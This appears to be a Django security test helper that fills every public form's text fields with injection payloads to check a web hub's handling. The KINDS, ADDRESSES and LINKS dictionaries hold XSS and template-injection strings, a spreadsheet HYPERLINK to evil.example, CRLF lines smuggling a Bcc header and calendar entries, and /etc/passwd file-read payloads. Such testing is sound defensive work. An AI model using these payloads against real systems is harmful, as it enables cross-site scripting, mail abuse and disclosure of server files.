"""What a stranger can write into the hub: every text field of every form of the public, filled
with what a page, a mail, a table, a calendar or a document could take for more than text."""

import re
from collections.abc import Iterator
from importlib import import_module
from pkgutil import walk_packages
from types import SimpleNamespace
from typing import Any
from uuid import uuid4

from django import forms
from django.conf import settings
from django.test import Client

import calls
import hub
import library
import ta_requests
import trainings
from calls.forms import SignUpForm
from calls.mails import link_for as call_link
from calls.models import CallSeries, SignUp
from hub.account_forms import LoginCode, SetUpApp, SignIn
from hub.front.forms import DetailsForm
from hub.models import User
from library.forms import LinkField, SuggestForm
from library.models import Suggestion
from ta_requests.forms import AskForm, MessageForm, SetDeadlineForm
from ta_requests.models import TaRequest
from ta_requests.services import links as private_links
from tests.ta_requests.asking import PAGE as ASK
from trainings.attendance_forms import CodeForm as SpokenCodeForm
from trainings.forms import LicenseForm, RegistrationForm, TermsForm
from trainings.interest_forms import HostForm, NewsForm
from trainings.mails.interest import link_for as news_link
from trainings.mails.registration import link_for as registration_link
from trainings.models import HostOffer, NewsRequest, Offering, Registration
from trainings.views.certificates import CodeForm as CertificateCodeForm

# What the template engine would make of it, were it ever taken for a template.
SUM = "62615533"
# Of each kind the longest that a field has room for; {m} marks the field.
KINDS: dict[str, tuple[str, ...]] = {
    "page": (
        '{m}"><img src=x onerror=canary()><script>canary()</script>{{{{7919*7907}}}}'
        "{{% debug %}}]]>",
        '{m}"><svg onload=canary()>',
    ),
    "cell": ('=HYPERLINK("https://evil.example","{m}")', "=1+1+{m}"),
    "lines": (
        "{m}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil\r\nBcc: evil@evil.example\r\nTY  - EVIL",
        "{m}\r\nBcc: evil@evil.example",
    ),
    "document": (
        '{m}#image("/etc/passwd")#read("/etc/passwd")\\input{{/etc/passwd}}}},evil={{*_$`',
        '{m}#read("/etc/passwd")',
    ),
}
# Each is a whole address, by the standard of mail; {n} marks the field.
ADDRESSES = {
    "page": ('"<script>canary()</script>{n}"@example.org', "{{{{7919*7907}}}}'{n}@example.org"),
    "cell": ("=1+1+{n}@example.org",),
    "lines": ('"{n} evil@evil.example"@example.org', "{n}@example.org"),
    "document": ("#read_{n}$@example.org",),
}
LINKS = {
    "page": "https://example.org/{m}\"'><script>canary()</script>",
    "cell": "https://example.org/{m}?=1+1",
    "lines": "https://example.org/{m}%0d%0aBcc:evil@evil.example",
    "document": "https://example.org/{m}#read\\input{{x}}%",
}
# Fields that take no text of one's own: codes, numbers, and what only programs fill in.
NO_TEXT = {"website", "code", "login", "password", "waiver_code"} | {
    f"bar_number_{n}" for n in (1, 2, 3)
}
# Forms of the public; all others are staff's.
PUBLIC: set[type[forms.BaseForm]] = {
    AskForm,
    CertificateCodeForm,
    DetailsForm,
    HostForm,
    LicenseForm,
    MessageForm,
    NewsForm,
    RegistrationForm,
    SetDeadlineForm,
    SignUpForm,
    SpokenCodeForm,
    SuggestForm,
    TermsForm,
    SignIn,
    LoginCode,
    SetUpApp,
}
# Modules whose forms only staff see.
OFFICE = re.compile(
    r"\.admin\b|admin_forms|admin_pages|office_forms|attendance_forms|staff_pages|account_forms"
    r"|ta_requests\.forms$|trainings\.interest_forms$"
)


def form_classes() -> set[type[forms.BaseForm]]:
    """Every form class that the project's own modules define."""
    for package in (hub, calls, trainings, library, ta_requests):
        for module in walk_packages(package.__path__, f"{package.__name__}."):
            if "migrations" not in module.name and module.name != "hub.wsgi":
                import_module(module.name)
    return {
        form
        for form in _below(forms.BaseForm)
        if form.__module__.split(".")[0] in {"hub", "calls", "trainings", "library", "ta_requests"}
        and form.__module__ != "hub.settings"
    }


def _below(form: type) -> Iterator[type]:
    for each in form.__subclasses__():
        yield each
        yield from _below(each)


def text_fields(form: type[forms.BaseForm]) -> dict[str, forms.CharField]:
    return {
        name: field
        for name, field in form.base_fields.items()
        if isinstance(field, forms.CharField) and name not in NO_TEXT
    }


class Stranger:
    """Fills the forms with one kind of attack, and remembers what went where."""

    def __init__(self, kind: str) -> None:
        self.kind = kind
        # marker → form.field
        self.marks: dict[str, str] = {}

    def values(self, form: type[forms.BaseForm]) -> dict[str, str]:
        """An attack for each text field of a form."""
        return {name: self._attack(form, name, field) for name, field in text_fields(form).items()}

    def _attack(self, form: type[forms.BaseForm], name: str, field: forms.CharField) -> str:
        mark = f"zq{self.kind[0]}{len(self.marks)}z"
        self.marks[mark] = f"{form.__name__}.{name}"
        if isinstance(field, forms.EmailField):
            for address in ADDRESSES[self.kind]:
                if _takes(field, typed := address.format(n=mark)):
                    return typed
            raise AssertionError(f"{form.__name__}.{name} takes none of the addresses")
        if isinstance(field, LinkField):
            return LINKS[self.kind].format(m=mark)
        for payload in KINDS[self.kind]:
            typed = payload.format(m=mark)
            if len(typed) <= (field.max_length or 10_000):
                return typed
        raise AssertionError(f"{form.__name__}.{name} has no room for an attack")


def _takes(field: forms.Field, typed: str) -> bool:
    try:
        field.clean(typed)
    except forms.ValidationError:
        return False
    return True


def path(address: str) -> str:
    return address.removeprefix(settings.BASE_URL)


def fill_everything(stranger: Stranger, series: CallSeries, offering: Offering) -> SimpleNamespace:
    """Send every form of the public, and confirm what asks for it; the rows, by name."""
    client = Client()
    made = SimpleNamespace(stranger=stranger)

    def send(address: str, **values: Any) -> None:
        answer = client.post(address, values)
        assert answer.status_code == 302, (
            address,
            answer.context and answer.context["form"].errors,
        )

    for _ in range(2):
        send(series.get_absolute_url(), role="attorney", **stranger.values(SignUpForm))
    made.calls = list(SignUp.objects.order_by("-pk")[:2])[::-1]
    for row in made.calls:
        client.post(path(call_link(row)), {"do": "join"})

    send(
        offering.get_absolute_url(),
        choice="pledge",
        is_attorney="yes",
        bar_state_1="CA",
        bar_number_1="123456",
        **stranger.values(RegistrationForm),
    )
    made.registration = Registration.objects.latest("pk")
    client.post(path(registration_link(made.registration)), {"do": "confirm"})
    send("/trainings/news/", course="", region="", **stranger.values(NewsForm))
    made.news = NewsRequest.objects.latest("pk")
    client.post(path(news_link(made.news)), {"do": "join"})
    send(
        "/trainings/host/",
        course=offering.course_id,
        state="CA",
        attorneys="40",
        **stranger.values(HostForm),
    )
    made.host = HostOffer.objects.latest("pk")
    send("/library/suggest/", **stranger.values(SuggestForm))
    made.suggestion = Suggestion.objects.latest("pk")
    asked = {
        "areas": ["civil"],
        "stage": "filed",
        "role": "supervised",
        "us_state": "CA",
        "form_id": str(uuid4()),
        "ok_identifiers": "on",
        "ok_relationship": "on",
        **stranger.values(AskForm),
    }
    _insisted(client, ASK, asked)
    made.request = TaRequest.objects.latest("pk")
    follow = f"/technical-assistance/follow/{private_links.token_of(made.request)}/"
    written = {"do": "write", "form_id": str(uuid4()), **stranger.values(MessageForm)}
    _insisted(client, follow, written)
    made.follow = follow

    made.person = User.objects.get(email=made.calls[1].email)
    client.force_login(made.person, backend="django.contrib.auth.backends.ModelBackend")
    send("/my/", do="details", **stranger.values(DetailsForm))
    made.client = client
    return made


def _insisted(client: Client, address: str, values: dict[str, Any]) -> None:
    """Sent again where it was warned of: an address in a text looks like a client's."""
    page = client.post(address, values).content.decode()
    if 'id="warning"' in page:
        seal = re.search(r'name="warned" value="([^"]*)"', page)
        assert seal
        client.post(address, values | {"warned": seal[1]})
